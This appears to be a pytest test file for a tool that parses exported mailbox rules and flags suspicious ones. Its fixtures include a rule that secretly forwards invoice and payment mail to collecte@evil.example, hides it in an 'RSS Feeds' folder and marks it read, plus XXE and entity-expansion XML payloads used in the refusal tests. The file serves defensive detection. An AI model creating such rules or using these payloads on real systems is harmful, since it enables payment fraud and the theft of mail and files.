"""Mailbox rules of every system: read, told in words, judged with reasons."""

import json
from dataclasses import replace
from datetime import UTC, datetime, timedelta

import pytest
from django.utils import translation

from breachreg.mailboxes.rules.reading import read_rules
from breachreg.mailboxes.rules.rule import Action, Condition, NotARuleFile, Rule
from breachreg.mailboxes.rules.telling import reason_told, sentence
from breachreg.mailboxes.rules.verdict import Surroundings, is_odd_folder, judge

AROUND = Surroundings(own_domains=frozenset({"hopital-troisrivieres.example"}))
HEADER = (
    '"UserName","RuleName","Enabled","Priority","RuleIdentity","StopProcessingRules","CopyToFolder","MoveToFolder","RedirectTo",'
    '"ForwardTo","ForwardAsAttachmentTo","ApplyCategory","MarkImportance","MarkAsRead","DeleteMessage","SoftDeleteMessage","From",'
    '"SubjectContainsWords","SubjectOrBodyContainsWords","BodyContainsWords","HasAttachment","Description","InError","ErrorType"'
)
MALICIOUS = (
    '"compta@hopital-troisrivieres.example",".","True","1","1","True","","RSS Feeds","",'
    '"""Collecte"" [SMTP:collecte@evil.example]","","","","True","False","False","",'
    '"","facture, virement, RIB","","False","","False",""'
)
HARMLESS = (
    '"compta@hopital-troisrivieres.example","Lettres","True","2","2","False","","Lettres d\'information","","","","","","False",'
    '"False","False","news@lettre.example","","","","False","","False",""'
)
EXCHANGE = "\r\n".join(["#TYPE Selected", HEADER, MALICIOUS, HARMLESS]).encode("utf-8-sig")

GRAPH = json.dumps({"value": [{
    "displayName": "..", "sequence": 1, "isEnabled": True,
    "conditions": {"bodyOrSubjectContains": ["facture", "virement"]}, "exceptions": {"fromAddresses": [{"emailAddress": {"address": "a@b.example"}}]},
    "actions": {"forwardTo": [{"emailAddress": {"name": "C", "address": "collecte@evil.example"}}], "permanentDelete": True, "markAsRead": False},
}]}).encode()  # fmt: skip

GMAIL = b"""<?xml version='1.0' encoding='UTF-8'?><feed xmlns='http://www.w3.org/2005/Atom' xmlns:apps='http://schemas.google.com/apps/2006'>
<title>Mail Filters</title><entry><category term='filter'></category><title>Mail Filter</title>
<apps:property name='hasTheWord' value='facture OR RIB'/><apps:property name='forwardTo' value='collecte@evil.example'/>
<apps:property name='shouldTrash' value='true'/><apps:property name='shouldNeverSpam' value='true'/>
<apps:property name='sizeOperator' value='s_sl'/></entry></feed>"""

SIEVE = b"""require ["fileinto", "copy", "imap4flags", "vnd.dovecot.execute"];
# rule:[.]
if anyof (header :contains "subject" ["facture", "RIB"], not address :domain "from" "hopital-troisrivieres.example")
{ redirect :copy "collecte@evil.example"; addflag "\\\\Seen"; fileinto "RSS"; stop; }
# rule:[unknown things]
if allof (spamtest :value "ge" :comparator "i;ascii-numeric" "5", true) { execute :pipe "prog" ["a"]; }
elsif size :over 2M { discard; } else { keep; }
/* off */ if false { discard; }
"""


def judged(raw):
    reading = read_rules(raw)
    return reading, [judge(rule, AROUND) for rule in reading.rules]


@pytest.mark.parametrize(
    ("raw", "form"), [(EXCHANGE, "exchange_csv"), (GRAPH, "graph_json"), (GMAIL, "gmail_xml"), (SIEVE, "sieve")]
)
def test_a_rule_that_forwards_outside_is_alarming_in_every_format(raw, form):
    reading, (verdict, *_) = judged(raw)
    assert reading.format == form
    assert reading.unreadable == []
    assert verdict.level == "alarming"
    assert reading.rules[0].targets() == ["collecte@evil.example"]
    assert {"forwards_outside", "money_words"} <= {reason.code for reason in verdict.reasons}


def test_the_exchange_rule_says_all_that_is_wrong_with_it():
    _, (malicious, harmless) = judged(EXCHANGE)
    assert [r.code for r in malicious.reasons] == ["forwards_outside", "odd_folder", "marks_as_read", "odd_name", "money_words"]
    assert harmless.level == "ordinary"
    assert harmless.reasons == ()


@pytest.mark.parametrize("encoding", ["utf-16", "cp1252", "utf-8"])
def test_any_encoding_will_do(encoding):
    raw = "\n".join([HEADER.replace(",", ";"), MALICIOUS.replace('","', '";"').replace("facture", "échéance")]).encode(encoding)
    (rule,) = read_rules(raw).rules
    assert rule.conditions[0].values[0] == "échéance"


def test_json_of_get_inboxrule_is_read():
    raw = json.dumps([{"Name": "x", "MailboxOwnerId": "compta", "Enabled": True, "ForwardTo": ['"C" [SMTP:c@evil.example]'], "SubjectContainsWords": ["paie"], "From": None}]).encode()
    (rule,) = read_rules(raw).rules
    assert rule == Rule((Condition("subject", ("paie",)),), (Action("forward", ("c@evil.example",)),), "x", "compta", True, row=1)


def test_an_address_of_the_own_directory_is_kept_as_it_stands_and_is_not_outside():
    raw = json.dumps([{"Name": "x", "ForwardTo": '"Paie" [EX:/o=Org/ou=x/cn=paie]', "SubjectContainsWords": "bonjour"}]).encode()
    reading, (verdict,) = judged(raw)
    assert "EX:/o=Org" in reading.rules[0].targets()[0]
    assert verdict.level == "ordinary"


def test_an_exception_is_told_as_one():
    rule = read_rules(GRAPH).rules[0]
    assert Condition("from", ("a@b.example",), True) in rule.conditions
    with translation.override("en"):
        assert sentence(rule) == (
            "When the subject or the text contains “facture”, “virement”: forwards it to “collecte@evil.example” and deletes it"
            " for good, unless it comes from “a@b.example”."
        )


def test_a_rule_and_its_reasons_are_told_in_french():
    reading, (verdict, *_) = judged(EXCHANGE)
    with translation.override("fr"):
        told = sentence(reading.rules[0])
        reasons = [reason_told(reason) for reason in verdict.reasons]
    assert told.startswith("Quand l’objet ou le texte contient «\u00a0facture\u00a0», «\u00a0virement\u00a0», «\u00a0RIB\u00a0»\u00a0:")
    assert "collecte@evil.example" in told
    assert reasons[0] == "envoie des messages hors de l’organisation\u00a0: collecte@evil.example"


def test_an_unknown_sieve_extension_hides_no_rule():
    rules = read_rules(SIEVE).rules
    assert [(rule.name, [a.kind for a in rule.actions]) for rule in rules] == [
        (".", ["copy_to_address", "mark_read", "move", "stop"]),
        ("unknown things", ["other"]),
        (None, ["delete_for_good"]),
        (None, ["delete_for_good"]),
    ]
    assert [rule.is_enabled for rule in rules] == [True, True, True, False]
    assert Condition("from", ("hopital-troisrivieres.example",), True) in rules[0].conditions


@pytest.mark.parametrize(
    "script",
    ["if true {", "redirect", '"alone";', "if " + "not " * 500 + "true { stop; }", "}" * 9, "if true " * 5000 + "{", "stop; stop;" + "(" * 100],
)
def test_a_broken_script_is_refused_with_its_line(script):
    with pytest.raises(NotARuleFile, match="line 1"):
        read_rules(script.encode())


@pytest.mark.parametrize(
    "raw",
    [
        b"", b"hello", b"a,b\r\n1,2", b"{}", b"[1]", b"<feed/>", b"<feed", bytes(range(256)),
        b'<!DOCTYPE a [<!ENTITY x "x"><!ENTITY y "&x;&x;">]><feed>&y;</feed>',
        b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><feed>&x;</feed>',
        b"[" * 200_000,
    ],
)  # fmt: skip
def test_what_is_no_export_of_rules_is_refused_with_what_would_be_one(raw):
    with translation.override("en"), pytest.raises(NotARuleFile, match=r"mailFilters\.xml"):
        read_rules(raw)


def test_a_broken_row_is_listed_and_the_others_are_read():
    raw = b"\r\n".join([EXCHANGE, b'"a","b"'])
    reading = read_rules(raw)
    assert len(reading.rules) == 2
    assert [(bad.row, bad.why) for bad in reading.unreadable] == [(5, "columns")]


@pytest.mark.parametrize(
    ("name", "odd"),
    [(".", True), (",", True), ("..", True), ("RSS Feeds", True), ("Flux RSS", True), ("Inbox\\Conversation History", True),
     ("Éléments supprimés", True), ("Factures", False), ("Clients/2026", False)],
)  # fmt: skip
def test_folders_where_nobody_looks(name, odd):
    assert is_odd_folder(name) is odd


MOVE = Rule((Condition("subject", ("facture",)),), (Action("move", ("Factures",)),), name="Factures")


@pytest.mark.parametrize(
    ("change", "level"),
    [
        ({}, "ordinary"),
        ({"actions": (Action("delete"),)}, "doubtful"),
        ({"actions": (Action("delete"), Action("mark_read"))}, "alarming"),
        ({"actions": (Action("move", ("RSS Feeds",)),)}, "alarming"),
        ({"conditions": (), "actions": (Action("move", ("Archive",)),)}, "doubtful"),
        ({"conditions": (), "actions": (Action("redirect", ("a@hopital-troisrivieres.example",)),)}, "ordinary"),
        ({"actions": (Action("redirect", ("a@gmail.example",)),)}, "alarming"),
        ({"is_hidden": True}, "doubtful"),
    ],
)
def test_a_verdict_grows_with_its_reasons(change, level):
    assert judge(replace(MOVE, **change), AROUND).level == level


def test_a_rule_made_from_a_strange_address_soon_after_a_strange_sign_in_is_alarming():
    at = datetime(2026, 3, 9, 22, 14, tzinfo=UTC)
    around = replace(AROUND, strange_addresses=frozenset({"203.0.113.66"}), strange_sign_ins=(at - timedelta(minutes=4),))
    made = replace(MOVE, made_at=at, made_from="203.0.113.66")
    assert [r.code for r in judge(made, around).reasons] == ["strange_address", "after_strange_sign_in"]
    assert judge(replace(made, made_at=at + timedelta(days=2), made_from=None), around).reasons == ()


def test_a_rule_declared_known_is_known_in_every_mailbox():
    redirect = replace(MOVE, actions=(Action("redirect", ("archive@provider.example",)),))
    around = replace(AROUND, known_shapes=frozenset({redirect.shape}))
    verdict = judge(replace(redirect, mailbox="other@x.example", name="y"), around)
    assert verdict.level == "known"
    assert verdict.reasons


def test_a_rule_survives_being_kept_as_json():
    rule = replace(MOVE, made_at=datetime(2026, 3, 9, tzinfo=UTC), mailbox="a")
    assert Rule.from_json(json.loads(json.dumps(rule.as_json()))) == rule


@pytest.mark.parametrize("raw", [GRAPH, GMAIL.replace(b"UTF-8", b"UTF-16")], ids=["Graph", "Gmail"])
@pytest.mark.parametrize("mark", ["utf-16-le", "utf-16-be"])
def test_an_export_that_powershell_wrote_in_utf_16_is_read(raw, mark):
    assert read_rules(("\ufeff" + raw.decode()).encode(mark)).rules


@pytest.mark.parametrize(
    "raw", [b"[]", "\ufeff[]".encode("utf-16-le"), b'{"@odata.context": "x", "value": []}', b"<feed xmlns='http://www.w3.org/2005/Atom'/>"]
)
def test_an_empty_export_says_that_there_is_no_rule(raw):
    reading = read_rules(raw)
    assert (reading.rules, reading.unreadable) == ([], [])
